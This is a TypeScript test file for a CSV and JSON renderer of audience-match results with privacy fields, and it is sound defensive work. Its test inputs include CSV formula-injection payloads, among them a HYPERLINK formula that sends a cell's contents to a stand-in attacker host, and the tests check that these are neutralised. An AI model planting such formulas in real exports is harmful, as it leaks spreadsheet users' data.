import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  csvCell,
  neutralizeCell,
  renderResultCsv,
  renderResultJson,
} from '../../shared/domain/result/render-csv.ts';
import { reasonInWords } from '../../shared/domain/result/result-glossary.ts';
import { type MatchResult, MatchResultSchema } from '../../shared/domain/result/result-schema.ts';

const hostileNames = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Quotes "inside", commas, and\nnew lines',
  'Café Münster 🚗',
];

const result: MatchResult = {
  list: {
    rows: 1200,
    valid: 1100,
    invalid: 100,
    invalidByReason: { '=bad': 100 },
    duplicates: 50,
    distinct: 1050,
  },
  matched: 400,
  matchRate: 0.2,
  segments: [
    ...hostileNames.map((name, i) => ({
      segmentId: i === 0 ? '-seg0' : `seg${i}`,
      name,
      matched: 50 + i,
      suppressed: false,
      share: 0.125,
      affinity: 140,
    })),
    {
      segmentId: 'small',
      name: 'Small',
      matched: null,
      suppressed: true,
      reason: 'below-k' as const,
      share: null,
      affinity: null,
    },
  ],
  privacy: {
    k: 50,
    noise: { mechanism: 'discrete-gaussian', rho: 0.01, sigma: 12.247, sensitivity2: 3 },
    rounding: 'none',
    budget: {
      period: '2025-01',
      renewsAt: '2025-02-01T00:00:00.000Z',
      rhoSpent: 0.01,
      advertiserLeft: 0.39,
      advertiserAllowance: 0.4,
      partnerLeft: 0.99,
    },
  },
  partner: { partnerId: '@partner', profile: 'basic' },
  generatedAt: '2025-01-02T03:04:05.000Z',
};

describe('neutralizeCell and csvCell', () => {
  it('prefixes cells that start a formula with an apostrophe', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r', '\n'])
      expect(neutralizeCell(`${lead}x`)).toBe(`'${lead}x`);
    for (const safe of ['abc', ' =x', "'quoted", '1', '0.5', '']) expect(neutralizeCell(safe)).toBe(safe);
  });

  it('quotes every cell and doubles inner quotes', () => {
    expect(csvCell('a"b,c')).toBe('"a""b,c"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(12)).toBe('"12"');
    expect(csvCell(false)).toBe('"false"');
    expect(csvCell('=1')).toBe(`"'=1"`);
  });
});

describe('renderResultCsv', () => {
  const csv = renderResultCsv(result);
  const rows = parse(csv, { bom: true, relax_column_count: false }) as string[][];

  it('is a rectangular RFC 4180 CSV with a BOM, CRLF line ends and every cell quoted', () => {
    expect(csv.startsWith('\uFEFF"segment_id","name"')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(renderResultCsv(result, { bom: false }).startsWith('"segment_id"')).toBe(true);
  });

  it('is one tidy table: the header and exactly one row per segment, nothing else', () => {
    expect(rows).toHaveLength(1 + result.segments.length);
    expect(rows.slice(1).map((r) => r[0])).toEqual(result.segments.map((s) => neutralizeCell(s.segmentId)));
    const summaryWords = ['metric', 'partner_id', 'matched_total', 'budget_epsilon_left', 'list_rows'];
    for (const row of rows) for (const word of summaryWords) expect(row).not.toContain(word);
  });

  it('has empty cells for withheld values, with the withheld columns and the reason in code and words', () => {
    const segmentRows = rows.slice(1);
    expect(segmentRows.map((r) => r[2])).toEqual([...hostileNames.map((_, i) => String(50 + i)), '']);
    const small = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, segmentRows.at(-1)?.[i]]));
    expect(small).toMatchObject({
      segment_id: 'small',
      name: 'Small',
      matched: '',
      suppressed: 'true',
      reason: 'below-k',
      share: '',
      affinity: '',
      withheld: 'matched share affinity',
    });
    expect(small.reason_text).toBe(reasonInWords('below-k', 50));
    expect(small.reason_text).toMatch(/fewer than k = 50 people/);
    expect(segmentRows[1]).toEqual(['seg1', "'+1+2", '51', 'false', '', '0.125', '140', '', '']);
  });

  it('says why share and affinity are withheld on a released segment when the matched total is withheld', () => {
    const withoutTotal: MatchResult = {
      ...result,
      matched: null,
      matchedSuppressedReason: 'below-k',
      segments: result.segments.map((s) => ({ ...s, share: null, affinity: null })),
    };
    const [, first] = parse(renderResultCsv(withoutTotal), { bom: true }) as string[][];
    expect(first?.slice(2, 8)).toEqual(['50', 'false', 'total-withheld', '', '', 'share affinity']);
    expect(first?.[8]).toContain('ratios to the matched total, which is withheld');
    expect(first?.[8]).toContain(reasonInWords('below-k', 50));
  });

  it('neutralizes every cell a spreadsheet would run, and keeps other text intact', () => {
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const names = rows.slice(1, 1 + hostileNames.length).map((r) => r[1]);
    expect(names).toEqual(hostileNames.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
    expect(rows[1]?.[0]).toBe("'-seg0");
  });

  it('loads into DuckDB as one typed table: a row per segment, numbers as numbers', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'render-csv-'));
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    try {
      const file = join(dir, 'audience.csv');
      await writeFile(file, csv);
      const reader = await connection.runAndReadAll(`SELECT * FROM read_csv('${file}')`);
      expect(reader.columnNames()).toEqual([...CSV_COLUMNS]);
      const types = Object.fromEntries(
        reader.columnNames().map((n, i) => [n, String(reader.columnTypes()[i])]),
      );
      expect(types).toMatchObject({
        matched: 'BIGINT',
        suppressed: 'BOOLEAN',
        share: 'DOUBLE',
        affinity: 'BIGINT',
      });
      const table = reader.getRowObjectsJson();
      expect(table).toHaveLength(result.segments.length);
      expect(table.at(-1)).toMatchObject({
        segment_id: 'small',
        matched: null,
        suppressed: true,
        reason: 'below-k',
      });
      expect(table[2]).toMatchObject({ segment_id: 'seg2', matched: '52', share: 0.125, affinity: '140' });
    } finally {
      connection.closeSync();
      instance.closeSync();
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('renderResultJson', () => {
  it('renders the validated Result, which parses back to the same value', () => {
    const json = renderResultJson(result);
    expect(json.endsWith('\n')).toBe(true);
    expect(MatchResultSchema.parse(JSON.parse(json))).toEqual(result);
  });

  it('refuses a Result that breaks the contract', () => {
    expect(() => renderResultJson({ ...result, matched: -1 })).toThrow();
  });
});
